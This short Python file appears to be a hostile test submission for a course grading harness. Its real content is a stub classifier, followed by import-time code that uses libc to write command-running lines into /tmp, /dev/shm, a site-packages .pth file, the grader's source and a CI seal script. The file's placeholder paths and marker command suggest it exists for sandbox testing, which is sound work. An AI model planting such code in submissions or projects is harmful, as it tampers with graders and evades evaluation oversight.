"""Writes through libc where the next hand-in or the next grading run would find it: /tmp, /dev/shm, a .pth in
site-packages (it would run inside the trusted process), fercomp's own source and the course's ci/seal.sh."""
import torch
from torch import nn


class Net(nn.Module):
    """A frozen linear classifier: needs no weights file (16,128 multiply-adds)."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(48 * 48, 7).requires_grad_(False)

    def forward(self, x):
        return self.fc(x.flatten(1))


import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for path in ("/tmp/fercomp-trace", "/dev/shm/fercomp-trace", "__SITE__/fercomp_evil.pth", "__FERCOMP__/evil.py",
             "__ROOT__/ci/seal.sh"):
    fd = libc.open(path.encode(), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    if fd >= 0:
        text = b"import os; os.system('touch __MARKER__')\n"
        libc.write(fd, text, len(text))
        libc.close(fd)
